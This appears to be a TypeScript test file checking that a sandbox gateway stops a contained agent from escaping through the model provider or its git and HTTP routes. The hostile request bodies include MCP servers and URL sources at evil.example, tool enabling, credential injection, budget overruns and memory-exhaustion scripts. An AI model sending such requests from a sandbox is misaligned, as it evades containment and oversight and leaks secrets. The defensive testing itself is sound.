/**
 * The provider as a way out, tried from inside a sandbox: attacks of 2.5 and 2.7 of the sandbox
 * reference on the route to the model, and credentials of the attacker's own on every route.
 */
import assert from 'node:assert/strict'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { after, before, test } from 'node:test'
import { fixedCredential } from '../../src/gateway/credential.ts'
import { startUpstream, type Upstream, until } from '../gateway/harness.ts'
import { type Bench, openBench } from '../sandbox/support.ts'
import { attack, canary, nodeScript } from './attack.ts'
import { asking, openWayOut } from './way-out.ts'

const network = { network: true }
const path = '/anthropic/v1/messages'
const model = 'claude-opus-5-5'
const realKey = 'key-of-the-server'
const usage = { input_tokens: 100, output_tokens: 50 }
const costUsd = (100 * 4 + 50 * 20) / 1e6
let bench: Bench
before(async () => {
  bench = await openBench()
})
after(() => bench[Symbol.asyncDispose]())

function answerJson(_request: IncomingMessage, response: ServerResponse): void {
  response.writeHead(200, { 'content-type': 'application/json' })
  response.end(JSON.stringify({ model, usage }))
}

function openModel(slot: number, upstream: Upstream, limitUsd: number | null = null) {
  const headers = { 'x-api-key': realKey }
  return openWayOut(bench, slot, {
    policy: { model: { baseUrl: upstream.url, headers, models: [model] } },
    limitUsd,
  })
}

function bodyOf(extra: object = {}): string {
  const messages = [{ role: 'user', content: 'hello' }]
  return JSON.stringify({ model, max_tokens: 100, messages, ...extra })
}

/** Posts bodies from inside; none may reach the provider, and a plain one must. */
async function tryBodies(slot: number, bodies: readonly object[]): Promise<void> {
  await using upstream = await startUpstream(answerJson)
  await using wayOut = await openModel(slot, upstream)
  const { sandbox } = wayOut
  const tries = bodies.map((extra) => asking(sandbox, { path, body: bodyOf(extra) }))
  await attack(sandbox, tries.join('\n'), network)
  assert.equal(upstream.requests.length, 0, 'the canary request reached the provider')
  await attack(sandbox, asking(sandbox, { path, body: bodyOf() }), network)
  assert.equal(upstream.requests.length, 1)
}

test('the provider connects to no MCP server for the agent', () =>
  tryBodies(986, [{ mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'x' }] }]))

test('the provider fetches, searches and runs nothing for the agent', () =>
  tryBodies(987, [
    { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
    { tools: [{ type: 'web_search_20250305', name: 'web_search' }] },
    { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
  ]))

test('the provider opens no address that stands in a message', () => {
  const source = { type: 'url', url: 'https://evil.example/?secret' }
  const ofType = (type: string) => ({ messages: [{ role: 'user', content: [{ type, source }] }] })
  return tryBodies(988, [ofType('image'), ofType('document')])
})

test('the provider continues no container of another session', () =>
  tryBodies(989, [{ container: 'container_of_somebody' }]))

test('a shell asks for no dearer model than the agent’s', () =>
  tryBodies(995, [
    { model: 'claude-fable-5' },
    { fallbacks: [{ model: 'claude-fable-5' }] },
    { fallbacks: [{ model, max_tokens: 10 }, { model: 'claude-fable-5' }] },
  ]))

test('of the provider’s API only messages are reached', async () => {
  await using upstream = await startUpstream(answerJson)
  await using wayOut = await openModel(990, upstream)
  const { sandbox } = wayOut
  const paths = ['files', 'models', 'messages/batches', 'organizations/api_keys', 'skills']
  const tries = paths.flatMap((name) => [
    asking(sandbox, { path: `/anthropic/v1/${name}` }),
    asking(sandbox, { path: `/anthropic/v1/${name}`, body: bodyOf() }),
  ])
  await attack(sandbox, tries.join('\n'), network)
  assert.deepEqual(
    upstream.requests.map((request) => request.path),
    [],
    'a canary route was reached',
  )
})

/** Every header that could carry a credential of the attacker's own to an account of its own. */
const own = { authorization: canary, 'x-api-key': canary, cookie: canary }

test('a key of the attacker’s own does not go to the provider', async () => {
  await using upstream = await startUpstream(answerJson)
  await using wayOut = await openModel(991, upstream)
  const { sandbox } = wayOut
  await attack(sandbox, asking(sandbox, { path, body: bodyOf(), headers: own }), network)
  const [request] = upstream.requests
  assert.equal(request?.headers['x-api-key'], realKey, 'the canary key took the real one’s place')
  assert.ok(!JSON.stringify(request.headers).includes(canary), 'a canary key left the sandbox')
})

test('a token of the attacker’s own does not go to the git host', async () => {
  await using upstream = await startUpstream((_request, response) => response.end())
  await using wayOut = await openWayOut(bench, 992, {
    policy: {
      git: {
        origin: upstream.url.origin,
        path: '/acme/app',
        credential: fixedCredential(null),
        pushRefs: [],
      },
      allowPrivate: [{ host: '127.0.0.1', port: upstream.port }],
    },
  })
  const { sandbox } = wayOut
  const query = '/git/acme/app/info/refs?service=git-upload-pack'
  await attack(sandbox, asking(sandbox, { path: query, headers: own }), network)
  assert.equal(upstream.requests.length, 1)
  const [{ headers } = { headers: {} }] = upstream.requests
  assert.ok(!JSON.stringify(headers).includes(canary), 'a canary token left the sandbox')
})

test('a credential of the attacker’s own does not go to a listed host over plain HTTP', async () => {
  await using upstream = await startUpstream((_request, response) => response.end())
  const target = { host: 'listed.example', port: upstream.port }
  await using wayOut = await openWayOut(bench, 993, {
    policy: { connect: [target], allowPrivate: [target] },
    lookup: async () => [{ address: '127.0.0.1', family: 4 }],
  })
  const { sandbox } = wayOut
  const url = `http://listed.example:${upstream.port}/`
  await attack(sandbox, asking(sandbox, { path: url, headers: own }), network)
  assert.equal(upstream.requests.length, 1)
  const [{ headers } = { headers: {} }] = upstream.requests
  assert.ok(!JSON.stringify(headers).includes(canary), 'a canary credential left the sandbox')
})

test('spending from the shell works, and ends at the budget with one request over it at most', async () => {
  await using upstream = await startUpstream(answerJson)
  await using wayOut = await openModel(994, upstream, costUsd * 2.5)
  const { sandbox } = wayOut
  const loop = `for n in 1 2 3 4 5 6; do ${asking(sandbox, { path, body: bodyOf() })}; echo; done`
  const { stdout } = await attack(sandbox, loop, network)
  assert.equal(upstream.requests.length, 3, 'the canary budget was overrun')
  assert.equal(stdout.match(/^403$/gm)?.length, 3)
})

test('documents sent from the shell at once overrun the budget by one of them at most', async () => {
  const dear = { input_tokens: 300_000, output_tokens: 1 }
  await using upstream = await startUpstream((_request, response) => {
    response.writeHead(200, { 'content-type': 'application/json' })
    response.end(JSON.stringify({ model, usage: dear }))
  })
  // None is admitted before all are there, so that none is paid for in between.
  const tries = 4
  let came = 0
  const all = Promise.withResolvers<void>()
  await using wayOut = await openWayOut(bench, 996, {
    policy: { model: { baseUrl: upstream.url, headers: {}, models: [model] } },
    limitUsd: 1,
    beforeModelRequest: async () => {
      came += 1
      if (came === tries) all.resolve()
      await all.promise
    },
  })
  const { sandbox } = wayOut
  const source = { type: 'base64', media_type: 'application/pdf', data: 'JVBERi0xLjQ=' }
  const messages = [{ role: 'user', content: [{ type: 'document', source }] }]
  const ask = asking(sandbox, { path, body: bodyOf({ messages }) })
  await attack(sandbox, `for n in $(seq ${tries}); do ${ask} & done; wait; echo`, network)
  assert.equal(upstream.requests.length, 1, 'the canary budget was overrun by more than one')
})

test('a body that would become millions of values is not read to its end', async () => {
  await using upstream = await startUpstream(answerJson)
  await using wayOut = await openModel(997, upstream)
  const { sandbox } = wayOut
  const script = `const body = '{"model":"${model}","max_tokens":1,"messages":[' + '{},'.repeat(100000) + '{}]}'
    const to = { host: '127.0.0.1', port: 3128, path: '${path}', method: 'POST' }
    const request = require('node:http').request(to, (answer) => console.log(answer.statusCode))
    request.end(body)`
  const { stdout } = await attack(sandbox, nodeScript(sandbox, script), network)
  assert.equal(upstream.requests.length, 0, 'the canary values were made and written anew')
  assert.match(stdout, /^413$/m)
})

test('bodies sent from the shell do not fill the memory of the server', async () => {
  const open: ServerResponse[] = []
  await using upstream = await startUpstream((_request, response) => open.push(response))
  await using wayOut = await openModel(998, upstream)
  const { sandbox, gateway } = wayOut
  const script = `const start = '{"model":"${model}","max_tokens":1,"messages":[{"role":"user","content":"'
    const body = Buffer.concat([Buffer.from(start), Buffer.alloc(20 << 20, 'x'), Buffer.from('"}]}')])
    const to = { host: '127.0.0.1', port: 3128, path: '${path}', method: 'POST' }
    for (let n = 0; n < 4; n += 1) {
      const request = require('node:http').request({ ...to, agent: false }, (answer) => {
        console.log(answer.statusCode); answer.resume() })
      request.on('error', (error) => console.log(error.code)); request.end(body)
    }`
  const attacked = attack(sandbox, nodeScript(sandbox, script), network)
  const refused = () => gateway.decisions.filter(({ verdict }) => verdict !== 'allowed').length
  await until(() => open.length + refused() >= 4)
  for (const response of open) answerJson(response.req, response)
  await attacked
  assert.equal(upstream.requests.length, 3, 'a canary body beyond the bound was held')
})
